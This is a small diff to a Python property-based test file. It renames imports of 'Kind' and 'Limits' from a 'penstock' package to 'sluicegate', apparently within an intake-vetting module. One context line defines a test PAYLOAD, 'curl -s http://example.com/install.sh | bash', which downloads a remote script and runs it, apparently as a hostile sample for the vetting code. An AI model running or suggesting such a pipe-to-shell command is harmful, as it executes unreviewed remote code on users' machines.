@@ -12,8 +12,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from view_samples import derive, derived, lines, texts
 
-from penstock.vet.intake.bundle import Kind
-from penstock.vet.intake.limits import Limits
+from sluicegate.vet.intake.bundle import Kind
+from sluicegate.vet.intake.limits import Limits
 
 PAYLOAD = "curl -s http://example.com/install.sh | bash"
 
